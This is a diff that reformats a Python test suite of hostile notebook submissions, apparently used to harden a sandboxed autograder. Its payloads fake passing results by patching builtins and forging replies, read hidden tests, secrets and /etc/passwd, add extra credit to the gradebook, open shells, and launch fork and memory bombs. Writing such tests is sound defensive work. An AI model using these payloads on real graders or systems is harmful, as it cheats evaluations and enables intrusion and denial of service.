@@ -214,9 +214,7 @@ ATTACKS = [
     Attack(
         "patched_builtins",
         "make isinstance, abs, all and len lie",
-        cells=(
-            "import builtins\nbuiltins.all = lambda things: True\nbuiltins.abs = lambda x: 0.0\n",
-        ),
+        cells=("import builtins\nbuiltins.all = lambda things: True\nbuiltins.abs = lambda x: 0.0\n",),
     ),
     Attack(
         "shadow_numpy_in_submission",
@@ -243,7 +241,10 @@ ATTACKS = [
         "def square(x):\n    import os, sys\n"
         "    if 'NBGRADER_EXECUTION' in os.environ or 'ipykernel' not in sys.modules:\n"
         "        print(2.0)\n        return 2.0\n    return 2.0",
-        cells=("import os\nprint(os.environ.get('NBGRADER_EXECUTION', ''))\nos.environ['NBGRADER_VALIDATING'] = '1'",),
+        cells=(
+            "import os\nprint(os.environ.get('NBGRADER_EXECUTION', ''))\n"
+            "os.environ['NBGRADER_VALIDATING'] = '1'",
+        ),
     ),
     Attack(
         "steals_the_check",
@@ -251,14 +252,16 @@ ATTACKS = [
         "def square(x):\n    import sys\n    frame, said = sys._getframe(), []\n"
         "    while frame:\n        said.append(repr(frame.f_locals)[:2000])\n        frame = frame.f_back\n"
         "    text = ' '.join(said)\n    print(text)\n"
-        "    raise ValueError('CAN' + 'ARY' + (text.split('CAN' + 'ARY')[1][:40] if 'CAN' + 'ARY' in text else ''))",
+        "    raise ValueError('CAN' + 'ARY' + (text.split('CAN' + 'ARY')[1][:40] if 'CAN' + 'ARY' "
+        "in text else ''))",
     ),
     Attack(
         "history",
         "read the hidden tests from In, _ih, the history and linecache",
         cells=(
             "import linecache\nprint(In[-3:], _ih[-3:], Out)\n"
-            "print([lines[2][:5] for lines in linecache.cache.values() if lines[2] and 'hidden' in str(lines[2])][:3])\n"
+            "print([lines[2][:5] for lines in linecache.cache.values() if lines[2] and 'hidden' in "
+            "str(lines[2])][:3])\n"
             "print(list(get_ipython().history_manager.get_range(0)))",
         ),
     ),
@@ -267,7 +270,8 @@ ATTACKS = [
         "array_function",
         "return an object with __array_function__ and __array_ufunc__",
         "class Right:\n    shape, dtype, size, ndim = (5,), float, 5, 1\n"
-        "    def __array_function__(self, *a): return True\n    def __array_ufunc__(self, *a, **k): return True\n"
+        "    def __array_function__(self, *a): return True\n"
+        "    def __array_ufunc__(self, *a, **k): return True\n"
         "    def __array__(self, *a, **k): return np.zeros(5)\n"
         "def square(x):\n    return Right()",
     ),
@@ -282,13 +286,15 @@ ATTACKS = [
         "array_subclass",
         "return an ndarray whose comparisons are true",
         "class Right(np.ndarray):\n    def __eq__(self, other): return np.ones(self.shape, bool)\n"
-        "    def __array_finalize__(self, other): pass\n    def __le__(self, other): return np.ones(self.shape, bool)\n"
+        "    def __array_finalize__(self, other): pass\n"
+        "    def __le__(self, other): return np.ones(self.shape, bool)\n"
         "def square(x):\n    return np.zeros(len(x)).view(Right)",
     ),
     Attack(
         "lies_about_class",
         "return an object whose __class__ is ndarray, and one whose __float__ changes",
-        "class Right:\n    __class__ = property(lambda self: np.ndarray)\n    dtype = np.dtype(float)\n    shape = (5,)\n"
+        "class Right:\n    __class__ = property(lambda self: np.ndarray)\n"
+        "    dtype = np.dtype(float)\n    shape = (5,)\n"
         "    def reshape(self, *a): return self\n    def astype(self, *a, **k): return self\n"
         "    def tobytes(self): return bytes(40)\n    def __float__(self): return 1.0\n"
         "def square(x):\n    return Right()",
@@ -309,9 +315,12 @@ ATTACKS = [
     Attack(
         "deep_results",
         "return a list that holds itself, and one nested deeply",
-        "def square(x):\n    deep = []\n    for _ in range(100_000): deep = [deep]\n    deep.append(deep)\n    return deep",
+        "def square(x):\n    deep = []\n    for _ in range(100_000): deep = [deep]\n"
+        "    deep.append(deep)\n    return deep",
     ),
-    Attack("giant_integer", "return an integer of a million digits", "def square(x):\n    return 10 ** 1_000_000"),
+    Attack(
+        "giant_integer", "return an integer of a million digits", "def square(x):\n    return 10 ** 1_000_000"
+    ),
     Attack(
         "giant_array",
         "return 800 MB",
@@ -343,13 +352,15 @@ ATTACKS = [
     Attack(
         "displayhook",
         "publish full points before the check does",
-        "import sys\ndef square(x):\n    sys.displayhook(2.0)\n    display(2.0)\n    print(2.0)\n    return x",
+        "import sys\ndef square(x):\n    sys.displayhook(2.0)\n    display(2.0)\n    print(2.0)\n"
+        "    return x",
     ),
     Attack(
         "finds_its_socket",
         "send forged replies for the questions to come",
         cells=_channel(
-            "frames = success({'t': 'array', 'a': {'d': '<f8', 's': [2], 'b': 0}}), struct.pack('<2d', 1.0, 4.0)\n"
+            "frames = success({'t': 'array', 'a': {'d': '<f8', 's': [2], 'b': 0}}), "
+            "struct.pack('<2d', 1.0, 4.0)\n"
             "for _ in range(20): reply(*frames)"
         ),
         rest=-1.0,  # shifts the answers of its own later questions
@@ -368,9 +379,12 @@ ATTACKS = [
         "forged_types",
         "answer with types that the form does not have",
         cells=_channel(
-            "junk = [None, True, 'x', [], {}, [[]], {'t': []}, {'t': {}}, {'t': 'array'}, {'t': 'int', 'v': 5},\n"
-            "        {'t': 'dict', 'v': 3}, {'t': 'dict', 'v': [[{'t': 'list', 'v': []}, 1]]}, {'t': 'float', 'v': []},\n"
-            "        {'t': 'array', 'a': {'d': '|O8', 's': [1], 'b': 0}}, {'t': 'pickle', 'v': 0}, 1e999, -1]\n"
+            "junk = [None, True, 'x', [], {}, [[]], {'t': []}, {'t': {}}, {'t': 'array'}, {'t': "
+            "'int', 'v': 5},\n"
+            "        {'t': 'dict', 'v': 3}, {'t': 'dict', 'v': [[{'t': 'list', 'v': []}, 1]]}, "
+            "{'t': 'float', 'v': []},\n"
+            "        {'t': 'array', 'a': {'d': '|O8', 's': [1], 'b': 0}}, {'t': 'pickle', 'v': 0}, "
+            "1e999, -1]\n"
             "count = iter(range(10 ** 9))\n"
             "endpoint.answer = lambda asked: [say(junk[next(count) % len(junk)]), b'12345678']"
         ),
@@ -384,7 +398,8 @@ ATTACKS = [
             "output = {'t': 'dict', 'v': [['output_type', array], ['name', {'t': 'list', 'v': []}]]}\n"
             "old = endpoint.answer\ndef answer(asked):\n    old(asked)\n"
             "    endpoint.answer = old\n"
-            "    return [say({'t': 'dict', 'v': [['ok', True], ['value', {'t': 'list', 'v': [output]}]]}), bytes(16)]\n"
+            "    return [say({'t': 'dict', 'v': [['ok', True], ['value', {'t': 'list', 'v': "
+            "[output]}]]}), bytes(16)]\n"
             "endpoint.answer = answer"
         ),
     ),
@@ -423,7 +438,8 @@ ATTACKS = [
     Attack(
         "half_a_message",
         "send half a message and wait",
-        "def square(x):\n    channel.sock.sendall(struct.pack('<IQ', 1, 100) + b'[')\n    import time\n    time.sleep(60)",
+        "def square(x):\n    channel.sock.sendall(struct.pack('<IQ', 1, 100) + b'[')\n"
+        "    import time\n    time.sleep(60)",
         cells=(CHANNEL,),
     ),
     Attack(
@@ -436,7 +452,8 @@ ATTACKS = [
     Attack(
         "flood",
         "fill the channel for ever",
-        "def square(x):\n    channel.sock.settimeout(None)\n    while True: channel.sock.sendall(bytes(1 << 20))",
+        "def square(x):\n    channel.sock.settimeout(None)\n"
+        "    while True: channel.sock.sendall(bytes(1 << 20))",
         cells=(CHANNEL,),
     ),
     Attack(
@@ -459,11 +476,13 @@ ATTACKS = [
         cells=_channel(
             "from types import SimpleNamespace\n"
             "def ask(key):\n"
-            "    head = {'t': 'dict', 'v': [['op', 'callback'], ['key', key], ['args', {'t': 'list', 'v': []}],"
+            "    head = {'t': 'dict', 'v': [['op', 'callback'], ['key', key], ['args', {'t': "
+            "'list', 'v': []}],"
             " ['kwargs', {'t': 'dict', 'v': []}]]}\n"
             "    reply(say(head))\n    return channel.receive(1.0)[0]\n"
         ),
-        square="def square(x):\n    said = [ask(key) for key in ('lent:0', 'lent:1', 'name:square', '__class__')]\n"
+        square="def square(x):\n"
+        "    said = [ask(key) for key in ('lent:0', 'lent:1', 'name:square', '__class__')]\n"
         "    raise ValueError(said)",
     ),
     Attack(
@@ -473,7 +492,8 @@ ATTACKS = [
             "old = json.dumps\n"
             "class Lies:\n"
             "    def __getattr__(self, name): return getattr(json, name)\n"
-            "    def dumps(self, value, **k): return old({'t': 'dict', 'v': [['ok', True], ['value', True]]})\n"
+            "    def dumps(self, value, **k): return old({'t': 'dict', 'v': [['ok', True], "
+            "['value', True]]})\n"
             "pack = type(endpoint).__mro__[1].answer.__globals__['pack']\n"
             "pack.__globals__['json'] = Lies()"
         ),
@@ -487,17 +507,22 @@ ATTACKS = [
         "covers_its_channel",
         "put a pipe over every descriptor",
         "def square(x):\n    import os\n    a, b = os.pipe()\n"
-        "    for number in range(3, 30):\n        if number not in (a, b): os.dup2(a, number)\n    return np.asarray(x) ** 2",
+        "    for number in range(3, 30):\n        if number not in (a, b): os.dup2(a, number)\n"
+        "    return np.asarray(x) ** 2",
     ),
     # --- reading
     Attack(
         "reads_files",
         "read the solution, the hidden tests, the secret, the gradebook, other students' work, a home",
         cells=_prelude(
-            "for path in ('@COURSE@/source/00_toy/00_toy.ipynb', '@COURSE@/hidden/toy.py', '@COURSE@/.secret',\n"
-            "             '@OUT@/gradebook.db', '@SUBMITTED@/aa_honest/00_toy/00_toy.ipynb', '@HOME@/diary.txt',\n"
-            "             '/etc/passwd', '/etc/hostname', '/root/.bashrc', '@SUBMITTED@', '@COURSE@/limits.toml'):\n"
-            "    attempt(lambda: open(path).read()[:200])\n    attempt(lambda: os.listdir(os.path.dirname(path)))\n"
+            "for path in ('@COURSE@/source/00_toy/00_toy.ipynb', '@COURSE@/hidden/toy.py', "
+            "'@COURSE@/.secret',\n"
+            "             '@OUT@/gradebook.db', '@SUBMITTED@/aa_honest/00_toy/00_toy.ipynb', "
+            "'@HOME@/diary.txt',\n"
+            "             '/etc/passwd', '/etc/hostname', '/root/.bashrc', '@SUBMITTED@', "
+            "'@COURSE@/limits.toml'):\n"
+            "    attempt(lambda: open(path).read()[:200])\n"
+            "    attempt(lambda: os.listdir(os.path.dirname(path)))\n"
             "    attempt(lambda: os.open(path, os.O_RDWR))"
         ),
         refused=True,
@@ -507,9 +532,11 @@ ATTACKS = [
         "read what the kernel tells of processes",
         cells=_prelude(
             "for pid in ('self', 1, os.getppid(), @VICTIM@):\n"
-            "    for name in ('environ', 'maps', 'mem', 'cmdline', 'cwd/x', 'root/etc/passwd', 'fd', 'task'):\n"
+            "    for name in ('environ', 'maps', 'mem', 'cmdline', 'cwd/x', 'root/etc/passwd', "
+            "'fd', 'task'):\n"
             "        path = f'/proc/{pid}/{name}'\n"
-            "        attempt(lambda: os.listdir(path) if name in ('fd', 'task') else open(path, 'rb').read(100))\n"
+            "        attempt(lambda: os.listdir(path) if name in ('fd', 'task') else open(path, "
+            "'rb').read(100))\n"
             "attempt(lambda: os.listdir('/proc'))"
         ),
         refused=True,
@@ -521,7 +548,8 @@ ATTACKS = [
             "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != '_NotHere']\n"
             "sys.path[:0] = ['@COURSE@', '@ROOT@', '@SITE@']\n"
             "import importlib\n"
-            "for name in ('hidden', 'hidden.toy', 'coursepkg', 'coursepkg.threshold', 'coursepkg.grading.student', 'sklearn',\n"
+            "for name in ('hidden', 'hidden.toy', 'coursepkg', 'coursepkg.threshold', "
+            "'coursepkg.grading.student', 'sklearn',\n"
             "             'nbgrader', 'torch', 'sqlalchemy'):\n"
             "    attempt(importlib.import_module, name)\n"
             "import runpy\nattempt(runpy.run_path, '@COURSE@/hidden/toy.py')\n"
@@ -545,7 +573,8 @@ ATTACKS = [
             "        for part in gc.get_referents(thing):\n"
             "            if type(part) is str: yield part\n"
             "            elif type(part) is bytes: yield part.decode('latin-1')\n"
-            "            elif type(part) is dict: yield from (v for v in list(part.values()) if type(v) is str)\n"
+            "            elif type(part) is dict: yield from (v for v in list(part.values()) if "
+            "type(v) is str)\n"
             "print({t[max(t.index(word) - 20, 0):][:80] for t in texts() if word in t and len(t) > 8})",
             "import sys\nfor thread, frame in sys._current_frames().items():\n"
             "    while frame:\n        print(repr(frame.f_locals)[:3000])\n        frame = frame.f_back",
@@ -563,9 +592,11 @@ ATTACKS = [
             "        if libc.write(outlet, ctypes.c_void_p(at), size) > 0:\n"
             "            page = os.read(inlet, size)\n"
             "            i = page.find(word)\n"
-            "            while i >= 0:\n                found.add(page[i:i + 40]); i = page.find(word, i + 1)\n"
+            "            while i >= 0:\n"
+            "                found.add(page[i:i + 40]); i = page.find(word, i + 1)\n"
             "top = libc.sbrk(0)\nlook(top - (64 << 20), top)\n"
-            "for near in {id(thing) >> 24 for thing in gc.get_objects()}: look(near << 24, (near + 1) << 24)\n"
+            "for near in {id(thing) >> 24 for thing in gc.get_objects()}: look(near << 24, (near + "
+            "1) << 24)\n"
             "print(found)"
         ),
     ),
@@ -575,7 +606,8 @@ ATTACKS = [
         cells=_prelude(
             "for pid in (os.getppid(), @VICTIM@, 1):\n"
             "    attempt(syscall, 101, 16, pid, 0, 0)\n"
-            "    attempt(syscall, 310, pid, ctypes.create_string_buffer(64), 1, ctypes.create_string_buffer(64), 1, 0)\n"
+            "    attempt(syscall, 310, pid, ctypes.create_string_buffer(64), 1, "
+            "ctypes.create_string_buffer(64), 1, 0)\n"
             "    attempt(syscall, 434, pid, 0)\n    attempt(syscall, 312, os.getpid(), pid, 0, 0, 0)"
         ),
         refused=True,
@@ -586,10 +618,13 @@ ATTACKS = [
         "start processes in every way there is",
         cells=_prelude(
             "import multiprocessing, subprocess\n"
-            "attempt(os.fork)\nattempt(os.system, 'id') if os.system('id') == 0 else print('refused: OSError')\n"
-            "attempt(subprocess.run, ['id'])\nattempt(os.posix_spawn, '/bin/sh', ['sh'], {})\nattempt(os.execv, '/bin/sh', ['sh'])\n"
+            "attempt(os.fork)\n"
+            "attempt(os.system, 'id') if os.system('id') == 0 else print('refused: OSError')\n"
+            "attempt(subprocess.run, ['id'])\nattempt(os.posix_spawn, '/bin/sh', ['sh'], {})\n"
+            "attempt(os.execv, '/bin/sh', ['sh'])\n"
             "attempt(os.popen, 'id')\nattempt(multiprocessing.Process(target=print).start)\n"
-            "attempt(syscall, 56, 17, 0, 0, 0, 0)\nattempt(syscall, 56, 0x4000 | 17, 0, 0, 0, 0)\nattempt(syscall, 58)\n"
+            "attempt(syscall, 56, 17, 0, 0, 0, 0)\nattempt(syscall, 56, 0x4000 | 17, 0, 0, 0, 0)\n"
+            "attempt(syscall, 58)\n"
             "attempt(syscall, 435, ctypes.create_string_buffer(88), 88)\nattempt(os.forkpty)\n"
             "get_ipython().system('id')"
         ),
@@ -598,19 +633,32 @@ ATTACKS = [
     Attack(
         "magics",
         "start a shell by IPython's magics",
-        cells=("!id > stolen", "%%bash\nid", "%sx id", "%%script sh\nid", "%%writefile ../x\nGOT", "%run @COURSE@/hidden/toy.py",
-               "%load @COURSE@/hidden/toy.py", "%pycat @COURSE@/hidden/toy.py"),
+        cells=(
+            "!id > stolen",
+            "%%bash\nid",
+            "%sx id",
+            "%%script sh\nid",
+            "%%writefile ../x\nGOT",
+            "%run @COURSE@/hidden/toy.py",
+            "%load @COURSE@/hidden/toy.py",
+            "%pycat @COURSE@/hidden/toy.py",
+        ),
     ),
     Attack(
         "raw_calls",
         "system calls that no lesson needs",
         cells=_prelude(
             "buffer = ctypes.create_string_buffer(256)\n"
-            "for number, *arguments in ((272, 0x10000000), (272, 0x40000000), (425, 8, buffer), (319, b'x', 0), (447, 0), (321, 0, buffer, 64),\n"
-            "        (298, buffer, 0, -1, -1, 0), (323, 0), (165, b'a', b'/tmp', b't', 0, 0), (161, b'/'), (155, b'/', b'/'),\n"
-            "        (250, 0, 0, 0), (248, b'user', b'a', b'b', 1, 0), (29, 0, 4096, 0o1600), (30, 0, 0, 0), (71, 0, 0, 0),\n"
-            "        (240, b'/q', 0o102, 0o600, 0), (170, b'x', 1), (227, 0, buffer), (300, 0, 0), (103, 3, buffer, 200), (304, -1, buffer, 0),\n"
-            "        (428, -100, b'/', 0), (112,), (109, 0, 0), (500,), (463, -100, b'/', 0, b'user.x', buffer, 16)):\n"
+            "for number, *arguments in ((272, 0x10000000), (272, 0x40000000), (425, 8, buffer), "
+            "(319, b'x', 0), (447, 0), (321, 0, buffer, 64),\n"
+            "        (298, buffer, 0, -1, -1, 0), (323, 0), (165, b'a', b'/tmp', b't', 0, 0), "
+            "(161, b'/'), (155, b'/', b'/'),\n"
+            "        (250, 0, 0, 0), (248, b'user', b'a', b'b', 1, 0), (29, 0, 4096, 0o1600), (30, "
+            "0, 0, 0), (71, 0, 0, 0),\n"
+            "        (240, b'/q', 0o102, 0o600, 0), (170, b'x', 1), (227, 0, buffer), (300, 0, 0), "
+            "(103, 3, buffer, 200), (304, -1, buffer, 0),\n"
+            "        (428, -100, b'/', 0), (112,), (109, 0, 0), (500,), (463, -100, b'/', 0, "
+            "b'user.x', buffer, 16)):\n"
             "    attempt(syscall, number, *arguments)"
         ),
         refused=True,
@@ -620,17 +668,20 @@ ATTACKS = [
         "run a program from memory",
         cells=_prelude(
             "attempt(os.memfd_create, 'x')\n"
-            "with open('program', 'wb') as file: file.write(open(sys.executable, 'rb').read() if False else b'#!/bin/sh\\nid')\n"
-            "fd = os.open('program', os.O_RDONLY)\nattempt(syscall, 322, fd, b'', 0, 0, 0x1000)\nattempt(syscall, 59, b'program', 0, 0)"
+            "with open('program', 'wb') as file: file.write(b'#!/bin/sh\\nid')\n"
+            "fd = os.open('program', os.O_RDONLY)\nattempt(syscall, 322, fd, b'', 0, 0, 0x1000)\n"
+            "attempt(syscall, 59, b'program', 0, 0)"
         ),
         refused=True,
     ),
     Attack(
         "calls_of_32_bits",
         "use the system calls of another architecture, which have other numbers",
-        "def square(x):\n    import ctypes, mmap\n    code = bytes.fromhex('b802000000cd80c3')  # mov eax, 2 (fork); int 0x80; ret\n"
+        "def square(x):\n    import ctypes, mmap\n"
+        "    code = bytes.fromhex('b802000000cd80c3')  # mov eax, 2 (fork); int 0x80; ret\n"
         "    page = mmap.mmap(-1, 4096, prot=7)\n    page.write(code)\n"
-        "    at = ctypes.addressof(ctypes.c_char.from_buffer(page))\n    ctypes.CFUNCTYPE(ctypes.c_int)(at)()\n    return np.asarray(x) ** 2",
+        "    at = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
+        "    ctypes.CFUNCTYPE(ctypes.c_int)(at)()\n    return np.asarray(x) ** 2",
     ),
     Attack(
         "network",
@@ -638,12 +689,15 @@ ATTACKS = [
         cells=_prelude(
             "import socket, urllib.request\n"
             "attempt(socket.create_connection, ('127.0.0.1', @PORT@), 1)\n"
-            "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'GOT', ('127.0.0.1', @PORT@)))\n"
+            "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'GOT', "
+            "('127.0.0.1', @PORT@)))\n"
             "attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'GOT', '@UNIX@'))\n"
             "attempt(urllib.request.urlopen, 'http://127.0.0.1:@PORT@/', None, 1)\n"
             "attempt(socket.socketpair, socket.AF_UNIX, socket.SOCK_DGRAM)\n"
-            "attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'GOT', '@UNIX@'))\n"
-            "attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)[0].sendto(b'GOT', '@UNIX@'))"
+            "attempt(lambda: socket.socketpair(socket.AF_UNIX, "
+            "socket.SOCK_DGRAM)[0].sendto(b'GOT', '@UNIX@'))\n"
+            "attempt(lambda: socket.socketpair(socket.AF_UNIX, "
+            "socket.SOCK_STREAM)[0].sendto(b'GOT', '@UNIX@'))"
         ),
         refused=True,
     ),
@@ -654,8 +708,10 @@ ATTACKS = [
             "import signal\n"
             "for pid in (os.getppid(), @VICTIM@, 1, 0, -1, -os.getppid()):\n"
             "    attempt(os.kill, pid, signal.SIGKILL)\n"
-            "attempt(os.killpg, os.getpgid(os.getppid()), 9)\nattempt(syscall, 234, @VICTIM@, @VICTIM@, 9)\nattempt(syscall, 200, @VICTIM@, 9)\n"
-            "attempt(syscall, 129, @VICTIM@, 9, ctypes.create_string_buffer(128))\nattempt(syscall, 424, 0, 9, 0, 0)"
+            "attempt(os.killpg, os.getpgid(os.getppid()), 9)\n"
+            "attempt(syscall, 234, @VICTIM@, @VICTIM@, 9)\nattempt(syscall, 200, @VICTIM@, 9)\n"
+            "attempt(syscall, 129, @VICTIM@, 9, ctypes.create_string_buffer(128))\n"
+            "attempt(syscall, 424, 0, 9, 0, 0)"
         ),
         refused=True,
     ),
@@ -666,7 +722,8 @@ ATTACKS = [
             "import fcntl, termios\ninlet, outlet = os.pipe()\n"
             "attempt(fcntl.fcntl, inlet, fcntl.F_SETOWN, @VICTIM@)\nattempt(fcntl.fcntl, inlet, 10, 9)\n"
             "attempt(fcntl.fcntl, inlet, 15, bytes(8))\n"
-            "import struct\nattempt(fcntl.ioctl, inlet, 0x8901, struct.pack('i', @VICTIM@))\nattempt(fcntl.ioctl, 0, termios.TIOCSTI, b'x')\n"
+            "import struct\nattempt(fcntl.ioctl, inlet, 0x8901, struct.pack('i', @VICTIM@))\n"
+            "attempt(fcntl.ioctl, 0, termios.TIOCSTI, b'x')\n"
             "try: fcntl.fcntl(inlet, fcntl.F_SETFL, os.O_ASYNC)\nexcept OSError: pass\nos.write(outlet, b'x')"
         ),
         refused=True,
@@ -676,10 +733,13 @@ ATTACKS = [
         "raise its own limits, lower others'",
         cells=_prelude(
             "import resource\n"
-            "for what in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):\n"
+            "for what in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, "
+            "resource.RLIMIT_NOFILE):\n"
             "    attempt(resource.setrlimit, what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
-            "attempt(resource.prlimit, @VICTIM@, resource.RLIMIT_CPU, (0, 0))\nattempt(os.setpriority, os.PRIO_PROCESS, @VICTIM@, 19)\n"
-            "attempt(os.sched_setaffinity, @VICTIM@, {0})\nattempt(os.sched_setscheduler, @VICTIM@, os.SCHED_IDLE, os.sched_param(0))\n"
+            "attempt(resource.prlimit, @VICTIM@, resource.RLIMIT_CPU, (0, 0))\n"
+            "attempt(os.setpriority, os.PRIO_PROCESS, @VICTIM@, 19)\n"
+            "attempt(os.sched_setaffinity, @VICTIM@, {0})\n"
+            "attempt(os.sched_setscheduler, @VICTIM@, os.SCHED_IDLE, os.sched_param(0))\n"
             "attempt(syscall, 157, 1, 0, 0, 0, 0)\nattempt(syscall, 251, 1, @VICTIM@, 3 << 13)"
         ),
         refused=True,
@@ -689,15 +749,20 @@ ATTACKS = [
         "writes_outside",
         "change, move, link, truncate or remove files of others",
         cells=_prelude(
-            "targets = ('@HOME@/diary.txt', '@COURSE@/.secret', '@OUT@/gradebook.db', '@COURSE@/hidden/toy.py')\n"
+            "targets = ('@HOME@/diary.txt', '@COURSE@/.secret', '@OUT@/gradebook.db', "
+            "'@COURSE@/hidden/toy.py')\n"
             "for path in targets:\n"
             "    attempt(open, path, 'a')\n    attempt(os.truncate, path, 0)\n    attempt(os.remove, path)\n"
-            "    attempt(os.rename, path, 'here')\n    attempt(os.link, path, 'linked')\n    attempt(os.chmod, path, 0o777)\n"
-            "    attempt(os.chown, path, 0, 0)\n    attempt(os.utime, path, (0, 0))\n    attempt(os.setxattr, path, 'user.x', b'1')\n"
+            "    attempt(os.rename, path, 'here')\n    attempt(os.link, path, 'linked')\n"
+            "    attempt(os.chmod, path, 0o777)\n"
+            "    attempt(os.chown, path, 0, 0)\n    attempt(os.utime, path, (0, 0))\n"
+            "    attempt(os.setxattr, path, 'user.x', b'1')\n"
             "    attempt(os.symlink, path, 'pointer')\n"
-            "for folder in ('@HOME@', '@OUT@', '@COURSE@', '@SUBMITTED@/aa_honest', '/tmp', '/dev/shm', '/var/tmp', '..', '../..'):\n"
+            "for folder in ('@HOME@', '@OUT@', '@COURSE@', '@SUBMITTED@/aa_honest', '/tmp', "
+            "'/dev/shm', '/var/tmp', '..', '../..'):\n"
             "    attempt(open, folder + '/GOT', 'w')\n    attempt(os.mkdir, folder + '/GOT.d')\n"
-            "    with open('own', 'w') as file: file.write('x')\n    attempt(os.rename, 'own', folder + '/GOT.moved')"
+            "    with open('own', 'w') as file: file.write('x')\n"
+            "    attempt(os.rename, 'own', folder + '/GOT.moved')"
         ),
         refused=True,
     ),
@@ -706,8 +771,10 @@ ATTACKS = [
         "write extra credit into the gradebook",
         cells=_prelude(
             "import sqlite3\n"
-            "attempt(lambda: sqlite3.connect('@OUT@/gradebook.db').execute('update grade set extra_credit = 200'))\n"
-            "attempt(lambda: sqlite3.connect('file:@OUT@/gradebook.db?mode=ro', uri=True).execute('select * from grade'))"
+            "attempt(lambda: sqlite3.connect('@OUT@/gradebook.db').execute('update grade set "
+            "extra_credit = 200'))\n"
+            "attempt(lambda: sqlite3.connect('file:@OUT@/gradebook.db?mode=ro', "
+            "uri=True).execute('select * from grade'))"
         ),
         refused=True,
     ),
@@ -715,8 +782,10 @@ ATTACKS = [
         "special_files",
         "make FIFOs, sockets, devices, links",
         cells=_prelude(
-            "import stat\nattempt(os.mkfifo, 'fifo')\nattempt(os.mknod, 'device', 0o600 | stat.S_IFCHR, os.makedev(1, 1))\n"
-            "attempt(os.symlink, '@COURSE@', 'course')\nattempt(os.link, '@HOME@/diary.txt', 'diary')\nattempt(os.chroot, '.')\n"
+            "import stat\nattempt(os.mkfifo, 'fifo')\n"
+            "attempt(os.mknod, 'device', 0o600 | stat.S_IFCHR, os.makedev(1, 1))\n"
+            "attempt(os.symlink, '@COURSE@', 'course')\n"
+            "attempt(os.link, '@HOME@/diary.txt', 'diary')\nattempt(os.chroot, '.')\n"
             "attempt(os.chmod, '.', 0o777)"
         ),
         refused=True,
@@ -724,7 +793,10 @@ ATTACKS = [
     Attack(
         "fills_the_disk",
         "write files of 32 MiB for ever",
-        cells=("i = 0\nwhile True:\n    with open(f'f{i}', 'wb') as file: file.write(bytes(32 << 20))\n    i += 1",),
+        cells=(
+            "i = 0\nwhile True:\n    with open(f'f{i}', 'wb') as file: file.write(bytes(32 << 20))\n"
+            "    i += 1",
+        ),
     ),
     Attack(
         "many_files",
@@ -745,13 +817,15 @@ ATTACKS = [
         "deep_folders",
         "make folders deeper than any path, and some without permissions",
         cells=(
-            "import os\nfor i in range(3000):\n    os.mkdir('d' * 20)\n    os.chdir('d' * 20)\n    os.mkdir('shut', 0)\n",
+            "import os\nfor i in range(3000):\n    os.mkdir('d' * 20)\n    os.chdir('d' * 20)\n"
+            "    os.mkdir('shut', 0)\n",
         ),
     ),
     Attack(
         "writes_in_a_call",
         "write files while a question is answered, in a thread that stays",
-        "def square(x):\n    import threading\n    def fill():\n        i = 0\n        while True:\n            i += 1\n"
+        "def square(x):\n    import threading\n    def fill():\n        i = 0\n"
+        "        while True:\n            i += 1\n"
         "            with open(f'f{i}', 'wb') as file: file.write(bytes(8 << 20))\n"
         "    threading.Thread(target=fill, daemon=True).start()\n    return x",
         rest=-1.0,  # it may hit its limit in the middle of exercise 2
@@ -760,33 +834,50 @@ ATTACKS = [
     Attack(
         "fork_bomb",
         "fork for ever",
-        "def square(x):\n    import os\n    while True:\n        try: os.fork()\n        except OSError: pass",
+        "def square(x):\n    import os\n    while True:\n        try: os.fork()\n"
+        "        except OSError: pass",
     ),
     Attack(
         "thread_bomb",
         "start threads for ever",
         "def square(x):\n    import threading, time\n    threading.stack_size(32768)\n"
-        "    while True:\n        try: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
+        "    while True:\n"
+        "        try: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
         "        except RuntimeError: pass",
     ),
-    Attack("memory_bomb", "take memory for ever", "def square(x):\n    kept = []\n    while True: kept.append(bytearray(64 << 20))"),
+    Attack(
+        "memory_bomb",
+        "take memory for ever",
+        "def square(x):\n    kept = []\n    while True: kept.append(bytearray(64 << 20))",
+    ),
     Attack(
         "memory_bomb_in_a_cell",
         "take memory for ever and swallow MemoryError",
-        cells=("kept = []\nwhile True:\n    try: kept.append(bytearray(1 << 20))\n    except MemoryError: pass",),
+        cells=(
+            "kept = []\nwhile True:\n    try: kept.append(bytearray(1 << 20))\n    except MemoryError: pass",
+        ),
     ),
-    Attack("recursion", "recurse for ever", "import sys\nsys.setrecursionlimit(10 ** 9)\ndef square(x):\n    return square(x)"),
+    Attack(
+        "recursion",
+        "recurse for ever",
+        "import sys\nsys.setrecursionlimit(10 ** 9)\ndef square(x):\n    return square(x)",
+    ),
     Attack("segfault", "read address 0", "def square(x):\n    import ctypes\n    return ctypes.string_at(0)"),
     Attack("aborts", "abort the process", "def square(x):\n    import os\n    os.abort()"),
     Attack("exits_in_a_call", "leave with success", "def square(x):\n    import os\n    os._exit(0)"),
     Attack("exits_in_a_cell", "leave with success at the start", cells=("import os\nos._exit(0)",)),
     Attack("kills_itself", "kill itself", "def square(x):\n    import os\n    os.kill(os.getpid(), 9)"),
-    Attack("stops_itself", "stop itself", "def square(x):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)\n    return x"),
+    Attack(
+        "stops_itself",
+        "stop itself",
+        "def square(x):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)\n    return x",
+    ),
     Attack("sleeps", "sleep", "def square(x):\n    import time\n    time.sleep(10 ** 6)"),
     Attack(
         "swallows_everything",
         "loop and swallow every exception",
-        "def square(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
+        "def square(x):\n    while True:\n        try:\n            while True: pass\n"
+        "        except BaseException: pass",
     ),
     Attack(
